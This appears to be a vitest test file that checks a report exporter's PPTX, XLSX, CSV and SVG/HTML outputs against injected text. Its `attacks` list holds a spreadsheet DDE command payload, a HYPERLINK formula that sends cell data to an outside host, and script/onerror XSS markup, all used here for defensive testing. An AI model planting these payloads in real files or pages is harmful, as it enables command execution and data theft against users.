import {unzipSync} from "fflate";
import {beforeAll, describe, expect, it} from "vitest";
import type {DownloadInput} from "../../loaders/downloads/contents/input.js";
import {exportTable} from "../../loaders/downloads/contents/table.js";
import {deck} from "../../loaders/downloads/deck/deck.js";
import {csv} from "../../loaders/downloads/files/csv.js";
import {summary} from "../../loaders/downloads/files/summary.js";
import {workbook} from "../../loaders/downloads/workbook/workbook.js";
import {renderSvg} from "../../loaders/draw/render.js";
import type {Figure} from "../../src/figures/figure.js";
import {all, cellsOf, parse, schemaErrors, texts, unzip} from "./open-office.js";
import {sampleFigures, sampleInput} from "./sample-figures.js";

const attacks = {
  "a command for a spreadsheet": "=cmd|' /C calc'!A0",
  "a link that a spreadsheet follows": '=HYPERLINK("http://example.com?x="&A1,"OK")',
  "markup of a page": '</t></svg><script>alert("1")</script><img src=x onerror=alert(1)>',
  "the end of a data section, entities and quotes": `]]>&amp;&#x3c;"'\`<!--`,
  "right-to-left letters and signs that turn the order": "\u202Eabc\u202C עברית العربية",
  "emoji, joined and with a skin colour": "👩‍👩‍👧‍👦👍🏽🇨🇳",
  "half of an emoji": "cut \ud83d here",
  "control characters": "a\u0000b\u0007c\u001b[31md\u007fe\ufffff",
  "line ends and tabs": "one\r\ntwo\tthree\nfour",
  "signs that a replacement would read": "$& $1 $' $` \\1",
  "an escape of Excel": "_x0041_ _x003D_1",
  "a cell as long as Excel allows": "长".repeat(32_767),
} as const;

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters to look for
const control = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/g;
const half = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;
/** The text as a file may hold it: what no XML can hold is taken out, nothing else. */
const clean = (text: string): string => text.replace(/\r\n?/g, "\n").replace(control, "").replace(half, "\ufffd");

/** A report in which every text that a user's data can bring in is this one. */
const reportOf = (text: string): DownloadInput => {
  const input = sampleInput();
  const both = {zh: text, en: text};
  const figures = Object.fromEntries(
    Object.entries(sampleFigures("en"))
      .filter(([id]) =>
        ["csat-trend", "csat-by-channel", "complaints-by-cause", "answers-by-tier", "actions"].includes(id),
      )
      .map(([id, figure]): [string, Figure] => [
        id,
        {
          ...figure,
          title: text,
          subtitle: text,
          alt: text,
          method: text,
          notes: [text],
          categories:
            figure.category_kind === "text"
              ? figure.categories.map((_, at) => (at === 0 ? text : `${at}${text}`))
              : figure.categories,
          series: figure.series.map((series) => ({...series, name: text})),
          ...(figure.category_title && {category_title: text}),
          ...(figure.reference && {reference: {...figure.reference, label: text}}),
          ...(figure.marks && {marks: figure.marks.map((mark) => ({...mark, label: text}))}),
          table: {
            columns: figure.table.columns.map((column) => ({...column, label: text})),
            rows: figure.table.rows.slice(0, 3).map(([, ...row]) => [text, ...row]),
          },
        },
      ]),
  );
  const drawn = {figures, passages: {overview: [text]}};
  return {
    ...input,
    report: {...input.report, company: both},
    sections: [{id: "all", title: both, figures: Object.keys(figures), passages: ["overview"]}],
    figures: {zh: drawn, en: drawn},
    definitions: [{id: "csat", name: both, formula: both, unit: "share"}],
    sources: [{entity: "tickets", file: text, sha256: "ab".repeat(32), rows_in: 1, rows_kept: 1, rows_rejected: 0}],
  };
};

describe.each(Object.entries(attacks))("%s in every text of a report", (_, text) => {
  const input = reportOf(text);
  const figures = Object.values(input.figures.en.figures) as Figure[];
  let [slides, book]: [Uint8Array, Uint8Array] = [new Uint8Array(), new Uint8Array()];
  beforeAll(() => {
    slides = deck(input, "en");
    book = workbook(input, "en");
  });

  it("stands in the deck as that text, in slides, notes, charts and their workbooks", () => {
    const files = unzip(slides);
    for (const [path, xml] of Object.entries(files)) if (/\.(xml|rels)$/.test(path)) parse(xml);
    const parts = (pattern: RegExp): string[] => Object.keys(files).filter((path) => pattern.test(path));
    const said = parts(/^ppt\/(slides|notesSlides)\/[^/]+\.xml$/)
      .flatMap((path) => texts(files[path] ?? ""))
      .join("\n");
    // A cell of a table on a slide is cut; no title, note or label is lost.
    for (const line of clean(text).slice(0, 60).split("\n")) expect(said).toContain(line);
    for (const path of parts(/embeddings\//)) {
      const inside = unzipSync(unzipSync(slides)[path] as Uint8Array);
      const sheet = new TextDecoder().decode(inside["xl/worksheets/sheet1.xml"]);
      expect(sheet, path).not.toMatch(/<f[ >]/);
      parse(sheet);
    }
  });

  it("is a plain text in the workbook, never a formula", () => {
    const cells = all(parse(unzip(book)["xl/worksheets/sheet1.xml"] ?? ""), "c");
    expect(cells.length).toBeGreaterThan(3);
    for (const xml of Object.values(unzip(book))) expect(xml).not.toMatch(/<f[ >]/);
    expect([...cellsOf(book).values()]).toContain(clean(text));
  });

  it("is inert in the CSV, and whole", () => {
    for (const figure of figures) {
      const content = csv(exportTable(figure, {language: "en"}));
      expect(content).not.toMatch(/(^\ufeff?|\n|,)"?\s*[=+@|]/);
      expect(content).toContain(clean(text).replaceAll('"', '""'));
    }
  });

  it("brings no element and no script into SVG and summary", async () => {
    const pictures = new Map<string, string>();
    for (const figure of figures) {
      const svg = await renderSvg(figure, {language: "en", titled: true});
      if (svg === "") continue;
      const drawing = parse(svg);
      for (const name of ["script", "img", "foreignObject", "image"]) expect(all(drawing, name), figure.id).toEqual([]);
      pictures.set(figure.id, svg);
    }
    const page = summary(input, "en", {pictures});
    expect(page).not.toMatch(/<script|<img src=x|\son\w+="/i);
    expect(page.match(control)).toBeNull();
    expect(new TextEncoder().encode(page).length).toBeLessThan(text.length > 1000 ? 10_000_000 : 500_000);
  });
});

it("leaves deck and workbook valid with all of them at once", async () => {
  const input = reportOf(Object.values(attacks).slice(0, -1).join(" · "));
  expect(await schemaErrors(deck(input, "en"), "pptx")).toEqual([]);
  expect(await schemaErrors(workbook(input, "en"), "xlsx")).toEqual([]);
  expect(await schemaErrors(workbook(reportOf("长".repeat(32_767)), "zh"), "xlsx")).toEqual([]);
}, 900_000);
